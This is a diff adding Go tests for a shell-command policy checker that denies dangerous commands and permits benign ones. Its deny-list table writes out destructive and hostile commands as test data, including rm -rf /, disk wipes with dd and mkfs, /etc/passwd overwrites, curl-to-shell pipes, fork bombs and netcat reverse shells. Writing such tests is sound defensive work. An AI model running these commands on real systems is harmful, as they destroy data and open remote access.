@@ -1,0 +1,131 @@
+package main
+
+import "testing"
+
+func TestPolicyBuiltinDenyList(t *testing.T) {
+	denied := map[string]string{
+		"rm -rf /":                                "rm-root",
+		"rm -rf /*":                               "rm-root",
+		"rm -r -f /":                              "rm-root",
+		"rm --recursive --force /":                "rm-root",
+		"rm -fr --no-preserve-root /":             "rm-root",
+		"cd /tmp && rm -rf /":                     "rm-root",
+		"echo hi; rm -Rf /":                       "rm-root",
+		"FOO=1 rm -rf /":                          "rm-root",
+		"true && sudo rm -rf /tmp/x":              "sudo",
+		"sudo apt-get install x":                  "sudo",
+		"mkfs.ext4 /dev/sda1":                     "mkfs",
+		"mkfs -t ext4 /dev/sdb":                   "mkfs",
+		"dd if=/dev/zero of=/dev/sda bs=1M":       "block-device-write",
+		"cat junk > /dev/nvme0n1":                 "block-device-write",
+		"shutdown -h now":                         "power",
+		"reboot":                                  "power",
+		"systemctl poweroff":                      "power",
+		"systemctl stop nginx":                    "stop-service",
+		"service ssh stop":                        "stop-service",
+		"echo root::0:0::/:/bin/sh > /etc/passwd": "etc-overwrite",
+		"cp evil /etc/shadow":                     "etc-overwrite",
+		"echo x | tee /etc/sudoers":               "etc-overwrite",
+		"chmod -R 777 /":                          "chmod-777-root",
+		"chmod 777 /":                             "chmod-777-root",
+		"curl -fsSL https://x.sh | sh":            "pipe-to-shell",
+		"wget -qO- x | sudo bash":                 "pipe-to-shell",
+		"curl x | bash -s":                        "pipe-to-shell",
+		":(){ :|:& };:":                           "fork-bomb",
+		"bomb(){ bomb|bomb& }; bomb":              "fork-bomb",
+		"nc -e /bin/sh 10.0.0.1 4444":             "netcat-exec",
+		"ncat 10.0.0.1 4444 -e /bin/bash":         "netcat-exec",
+		"echo $(sudo id)":                         "sudo",
+		"x=`sudo id`":                             "sudo",
+		`sh -c "rm -rf /"`:                        "rm-root",
+		`bash -lc 'sudo whoami'`:                  "sudo",
+		"if true; then sudo id; fi":               "sudo",
+		"nohup reboot &":                          "power",
+	}
+	for cmd, rule := range denied {
+		err := commandPolicy{}.check(cmd)
+		if err == nil {
+			t.Errorf("%q: allowed, want denied by %s", cmd, rule)
+			continue
+		}
+		if err.Code != codeExecDenied || statusOf(err.Code) != 403 {
+			t.Errorf("%q: code %s", cmd, err.Code)
+		}
+		if got := err.Details["rule"]; got != rule {
+			t.Errorf("%q: rule %v, want %s", cmd, got, rule)
+		}
+		if len(err.Message) < 9 || err.Message[:9] != "refused: " {
+			t.Errorf("%q: message %q", cmd, err.Message)
+		}
+	}
+	allowed := []string{
+		"grep -r sudo .",
+		"echo shutdown >> notes",
+		"echo 'rm -rf /' > notes.txt",
+		"rm -rf /work/build",
+		"rm -rf ./dist",
+		"ls /",
+		"chmod 777 /work/x",
+		"cat /etc/passwd",
+		"echo reboot",
+		"man sudo",
+		"python3 -c 'print(1)' | grep 1",
+		"cat script.sh | wc -l",
+		"bash script.sh",
+		"sh -c 'echo hi'",
+		"echo ${HOME} && ls",
+		"ls 2>&1 | head",
+		"nc -z localhost 80",
+		"git commit -m 'sudo make me a sandwich; reboot'",
+		"dd if=/dev/zero of=/work/file bs=1M count=1",
+		"ln -sf /etc/passwd /work/pw",
+		"cp /etc/passwd backup",
+	}
+	for _, cmd := range allowed {
+		if err := (commandPolicy{}).check(cmd); err != nil {
+			t.Errorf("%q: denied (%s), want allowed", cmd, err.Message)
+		}
+	}
+}
+
+func TestPolicyOrderAllowThenDenyThenBuiltin(t *testing.T) {
+	p := commandPolicy{Allow: []string{`^sudo apt-get`}, Deny: []string{`curl`, `([`}}
+	if err := p.check("sudo apt-get update"); err != nil {
+		t.Fatalf("allow pattern must beat the built-in list: %v", err)
+	}
+	err := p.check("curl https://example.com")
+	if err == nil || err.Details["rule"] != "denyCommands:curl" {
+		t.Fatalf("deny pattern: %v", err)
+	}
+	// "([" does not compile: substring match.
+	if err := p.check("echo ([x"); err == nil {
+		t.Fatal("uncompilable pattern must match as a substring")
+	}
+	if err := p.check("sudo reboot"); err == nil || err.Details["rule"] != "sudo" {
+		t.Fatalf("built-in list still applies: %v", err)
+	}
+	if err := (commandPolicy{Allow: []string{"reboot"}}).check("reboot"); err != nil {
+		t.Fatalf("allow beats built-in: %v", err)
+	}
+}
+
+func TestPolicyArgvJoin(t *testing.T) {
+	if err := (commandPolicy{}).check(shellJoin([]string{"sh", "-c", "rm -rf /"})); err == nil {
+		t.Fatal("argv sh -c 'rm -rf /' must be denied")
+	}
+	if err := (commandPolicy{}).check(shellJoin([]string{"grep", "-r", "sudo", "."})); err != nil {
+		t.Fatalf("argv grep: %v", err)
+	}
+	if err := (commandPolicy{}).check(shellJoin([]string{"echo", "a; sudo x"})); err != nil {
+		t.Fatalf("quoted argument is not a command: %v", err)
+	}
+}
+
+func FuzzPolicyCheck(f *testing.F) {
+	for _, s := range []string{"rm -rf /", "grep -r sudo .", `sh -c "a'b"`, "$(", "`", "a|&b", "\\"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		commandPolicy{Deny: []string{"x"}}.check(s) // must not panic
+	})
+}
